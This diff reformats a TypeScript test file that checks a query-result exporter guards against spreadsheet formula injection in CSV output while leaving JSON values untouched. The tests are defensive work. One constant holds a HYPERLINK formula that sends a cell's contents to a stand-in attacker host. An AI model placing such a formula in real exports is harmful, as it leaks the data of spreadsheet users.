@@ -7,7 +7,8 @@ import { toCsv, toJson, type Table } from '../../src/webview/protocol/queryResul
 const ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"x")';
 
 /** The one data line of a one-column table holding `cell`. */
-const csvOf = (cell: Table['rows'][number][number]): string => toCsv({ columns: ['v'], rows: [[cell]] }).split('\r\n')[1] ?? '';
+const csvOf = (cell: Table['rows'][number][number]): string =>
+  toCsv({ columns: ['v'], rows: [[cell]] }).split('\r\n')[1] ?? '';
 
 test('a group value a spreadsheet would run as a formula is written as quoted text with a leading apostrophe', () => {
   assert.equal(
@@ -17,8 +18,25 @@ test('a group value a spreadsheet would run as a formula is written as quoted te
 });
 
 test('every lead a spreadsheet evaluates is neutralised: = + - @, tab, carriage return, their full-width forms, after spaces or line breaks', () => {
-  const leads = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)', '  =1+1', '\n=1+1', '\tcmd'];
-  assert.deepEqual(leads.map((text) => csvOf(text)), leads.map((text) => `"'${text}"`));
+  const leads = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\uFF1D1+1',
+    '\uFF0B1',
+    '\uFF0D1',
+    '\uFF20SUM(A1)',
+    '  =1+1',
+    '\n=1+1',
+    '\tcmd',
+  ];
+  assert.deepEqual(
+    leads.map((text) => csvOf(text)),
+    leads.map((text) => `"'${text}"`),
+  );
 });
 
 test('a cell holding a semicolon or a tab is quoted whole, so no locale or paste splits a formula out of it', () => {
@@ -30,7 +48,10 @@ test('a column name is neutralised like a value', () => {
 });
 
 test('numbers stay numbers: a negative number, a fraction and zero are written as they are', () => {
-  assert.equal(toCsv({ columns: ['a', 'b', 'c', 'd'], rows: [[-3, -0.25, 0, 1e21]] }), 'a,b,c,d\r\n-3,-0.25,0,1e+21\r\n');
+  assert.equal(
+    toCsv({ columns: ['a', 'b', 'c', 'd'], rows: [[-3, -0.25, 0, 1e21]] }),
+    'a,b,c,d\r\n-3,-0.25,0,1e+21\r\n',
+  );
 });
 
 test('text that is no formula is written as before: a sign inside, a time, true, an empty cell', () => {
@@ -41,6 +62,22 @@ test('text that is no formula is written as before: a sign inside, a time, true,
 });
 
 test('the JSON export keeps every value exactly as the service gave it', () => {
-  const table: Table = { columns: ['=col', 'n'], rows: [[ATTACK, -3], ['@SUM(A1)', 1.5]] };
-  assert.equal(toJson(table), `${JSON.stringify([{ '=col': ATTACK, n: -3 }, { '=col': '@SUM(A1)', n: 1.5 }], null, 2)}\n`);
+  const table: Table = {
+    columns: ['=col', 'n'],
+    rows: [
+      [ATTACK, -3],
+      ['@SUM(A1)', 1.5],
+    ],
+  };
+  assert.equal(
+    toJson(table),
+    `${JSON.stringify(
+      [
+        { '=col': ATTACK, n: -3 },
+        { '=col': '@SUM(A1)', n: 1.5 },
+      ],
+      null,
+      2,
+    )}\n`,
+  );
 });
